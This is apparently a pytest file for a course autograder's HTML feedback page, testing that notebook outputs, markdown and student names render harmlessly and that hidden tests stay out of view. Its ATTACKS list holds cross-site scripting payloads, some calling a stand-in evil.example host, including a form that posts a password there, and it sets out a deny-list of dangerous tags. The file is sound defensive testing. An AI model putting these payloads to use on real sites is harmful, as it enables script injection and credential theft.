"""The page that a student gets back: what it shows, and what nothing in a notebook can make it do."""

import base64
import copy
from html.parser import HTMLParser

import nbformat
import pytest

from grading.test_book import by_hand, handed_in
from grading.tiny_course import EXERCISE
from segutils.grading.autograde import Book
from segutils.grading.feedback import MAX_TEXT, Summary, TaskResult
from segutils.submission import entry

NEVER = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "link",
    "base",
    "form",
    "input",
    "button",
    "svg",
    "math",
    "meta",
}
NEVER |= {"audio", "video", "source", "frame", "frameset", "applet", "template", "noscript", "textarea", "title"}
SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>parent.hacked()</script></svg>'
ATTACKS = [
    "<script>hacked()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=hacked()>",
    '<img src="https://evil.example/pixel.png">',
    '<img srcset="https://evil.example/pixel.png 2x">',
    "<svg onload=hacked()><circle/></svg>",
    "<iframe src='javascript:hacked()'></iframe>",
    "<a href='javascript:hacked()'>a</a><a href='data:text/html,<script>hacked()</script>'>b</a>",
    "<a href=' java\tscript:hacked()'>c</a>",
    "<div style='position:fixed;background:url(https://evil.example/x)' onclick=hacked()>x</div>",
    "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
    "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password></form>",
    "<math><mi xlink:href='javascript:hacked()'>x</mi></math>",
    "<noscript><p title='</noscript><img src=x onerror=hacked()>'></noscript>",
    "</main></body></html><script>hacked()</script><!-- <b>",
    "<table background='https://evil.example/x'><tr><td background='https://evil.example/y'>z</table>",
    "<object data=https://evil.example></object><embed src=https://evil.example><video src=//evil.example></video>",
]


class Page(HTMLParser):
    """A page's body as a browser would understand it: the elements with their attributes, and the text."""

    def __init__(self, text):
        super().__init__()
        self.elements, self.words = [], []
        head, self.body = text.split("</head>")
        self.title = head.split("<title>")[1]
        assert head.count("<style>") == head.count("</style>") == 1 and "http://" not in head and "https://" not in head
        self.feed(self.body)
        self.text = "".join(self.words)

    def handle_starttag(self, tag, attributes):
        self.elements.append((tag, dict(attributes)))

    def handle_data(self, data):
        self.words.append(data)

    def assert_harmless(self):
        for tag, attributes in self.elements:
            assert tag not in NEVER, tag
            for name, value in attributes.items():
                assert not name.startswith("on") and name not in ("srcset", "background", "action", "data"), (tag, name)
                assert name != "src" or value.startswith("data:image/"), value
                assert name != "href" or value.startswith(("#", "http://", "https://", "mailto:")), value
                assert name != "style" or ("url" not in value and "position" not in value), value


@pytest.fixture(scope="module")
def course(class_course):
    return class_course


@pytest.fixture(scope="module")
def book(course):
    return Book(course.root, EXERCISE)


def page_of(course, book, outputs=(), markdown="", code="pass", summary=None, student="ada", wrong=()):
    """The feedback for a solved notebook with one more code cell, which has these outputs, and one of text."""
    prepared, executed = handed_in(course, book, wrong)
    own = [nbformat.v4.new_code_cell(code, id="own-1"), nbformat.v4.new_markdown_cell(markdown, id="own-2")]
    own.insert(0, nbformat.v4.new_raw_cell(markdown, id="own-3"))
    prepared.cells += copy.deepcopy(own)
    executed.cells += own
    executed.cells[-2].outputs = list(outputs)
    book.grade(student, prepared, executed)
    book.write_feedback(student, summary or Summary((TaskResult("area_test", 3, 3),)))
    path = book.folder("feedback", student) / f"{EXERCISE}.html"
    return Page(path.read_text(encoding="utf-8"))


def display(**data):
    return nbformat.v4.new_output("display_data", data={kind.replace("_", "/"): value for kind, value in data.items()})


def test_the_table_says_what_each_check_said_and_what_was_mended(course, book):
    tasks = (
        TaskResult("double_test", 2, 2),
        TaskResult("area_test", 1.5, 3, "area: expected area(2, 3) == 6\n  Likely cause: a < b"),
        TaskResult("total_test", 0, 4.5, "not written yet"),
        TaskResult("challenge_test", 0, 0),
    )
    page = page_of(course, book, summary=Summary(tasks, ("cell <area> was there 2 times: one counts",)))
    assert "3.5 of 9.5 points" in page.text and "cell <area> was there 2 times: one counts" in page.text
    rows = page.body.split("<tbody>")[1].split("</tbody>")[0].split("</tr>")
    for row, mark, *said in zip(
        rows,
        ("full", "part", "none", "challenge"),
        ("double_test", "area_test", "total_test", "challenge_test"),
        ("2 of 2", "1.5 of 3", "0 of 4.5", "challenge</td>"),
        ("passed", "6\n  Likely cause: a &lt; b", "not written yet", "solved"),
        strict=False,
    ):
        assert f'<tr class="{mark}">' in row
        assert all(text in row for text in said), (row, said)


def test_hidden_tests_and_frames_of_tests_are_not_shown(course, book):
    page = page_of(course, book, wrong=["area"])
    assert "assert area(2, 3) == 6" in page.text  # what the student's notebook shows
    assert "Likely cause: a slip" in page.text
    for secret in ("HIDDEN TESTS", "area(0, 5)", "fails on another input", "the test's source"):
        assert secret not in page.text


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_a_notebook_runs_or_loads(course, book, attack):
    everywhere = [
        display(text_html=attack),
        display(text_markdown=attack),
        display(text_latex=attack),
        display(text_plain=attack),
        nbformat.v4.new_output("stream", text=attack),
        nbformat.v4.new_output("error", ename=attack, evalue=attack, traceback=[attack]),
    ]
    line = TaskResult("area_test", 0, 3, attack)
    page = page_of(course, book, everywhere, attack, f"# {attack}", Summary((line,), (attack,)), student="<b>ada")
    page.assert_harmless()
    assert attack in page.text  # as text it may be read
    assert "<b>ada" in page.text and "&lt;b&gt;ada" in page.title
    by_hand(book, "<b>ada", comment=attack)
    book.write_feedback("<b>ada", Summary((line,)))
    Page((book.folder("feedback", "<b>ada") / f"{EXERCISE}.html").read_text(encoding="utf-8")).assert_harmless()


@pytest.mark.parametrize(
    ("data", "shown"),
    [
        ({"image/png": '"><script>hacked()</script>'}, ""),
        ({"image/jpeg": "x' onerror='hacked()"}, ""),
        ({"image/svg+xml": SVG}, ""),
        ({"application/javascript": "hacked()", "text/plain": "a script"}, "a script"),
        ({"application/vnd.jupyter.widget-view+json": {"model_id": "1"}, "text/plain": "a slider"}, "a slider"),
        ({"text/html": 5, "text/latex": None, "text/plain": "five"}, "5"),
        ({"text/plain": ["two ", "lines"]}, "two lines"),
        ({"application/json": {}}, ""),
        ({}, ""),
    ],
)
def test_other_outputs_are_shown_as_pictures_or_text(course, book, data, shown):
    metadata = {"image/png": {"width": "1 onerror=hacked()"}, "text/html": {"isolated": True}}
    output = nbformat.v4.new_output("display_data", metadata=metadata)
    output.data = data
    page = page_of(course, book, [output])
    page.assert_harmless()
    assert page.text.split("pass")[-1].strip() == shown
    if "image/svg+xml" in data:
        (picture,) = [attributes for tag, attributes in page.elements if tag == "img"]
        assert base64.b64decode(picture["src"].split(",")[1]).decode() == SVG  # in a picture, scripts do not run


def test_the_browser_is_told_to_load_and_run_nothing(course, book):
    page_of(course, book)
    text = (book.folder("feedback", "ada") / f"{EXERCISE}.html").read_text(encoding="utf-8")
    first = text.split("<meta")[2]
    assert "Content-Security-Policy" in first and "default-src 'none'; img-src data:; style-src" in first


def test_what_text_and_tables_a_notebook_has_stays(course, book):
    table = "<style scoped>th { color: red }</style><table><tr><th>a</th></tr><tr><td>1</td></tr></table>"
    text = "# My *notes*\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n$\\frac{a}{b}$ and `code`\n\n<details>t</details>"
    page = page_of(course, book, [display(text_html=table, text_plain="plain")], text)
    tags = [tag for tag, _ in page.elements]
    assert tags.count("table") == 3 and "em" in tags and "details" in tags and "code" in tags
    assert "color: red" not in page.text and "plain" not in page.text and "$\\frac{a}{b}$" in page.text


@pytest.mark.parametrize("text", ["<div>" * 50_000, "> " * 100_000, "**" * 500_000, "    \n" * 100_000, "[" * 100_000])
def test_long_and_nested_text_is_cut(course, book, text):
    outputs = [display(text_html=text, text_plain="a table"), nbformat.v4.new_output("stream", text=text)]
    page = page_of(course, book, outputs, text, text)
    page.assert_harmless()
    assert len(page.body) < 40 * MAX_TEXT and "characters are left out here" in page.text


def test_of_too_many_cells_the_exercises_own_are_shown(course, book):
    prepared, executed = handed_in(course, book, ["total"])
    for notebook in (prepared, executed):
        notebook.cells[1:1] = [nbformat.v4.new_code_cell("x" * 300, id=f"own-{number}") for number in range(2_000)]
    book.grade("ada", prepared, executed)
    book.write_feedback("ada", Summary(()))
    page = Page((book.folder("feedback", "ada") / f"{EXERCISE}.html").read_text(encoding="utf-8"))
    assert "more cells are left out here" in page.text and "Likely cause: a slip" in page.text
    names = {entry(cell)["grade_id"] for cell in prepared.cells if entry(cell).get("grade_id")} - {"setup"}
    assert names == {attributes["id"] for tag, attributes in page.elements if attributes.get("class") == "label"}


def test_a_students_text_cannot_look_like_the_courses(course, book):
    page = page_of(course, book, [display(text_html='<div class="comment" id="top"><b>Comment</b> Full points!</div>')])
    assert "Full points!" in page.text and "comment" not in [attributes.get("class") for _, attributes in page.elements]


def test_the_same_submission_gives_the_same_page(course, book):
    assert page_of(course, book).body == page_of(course, book).body
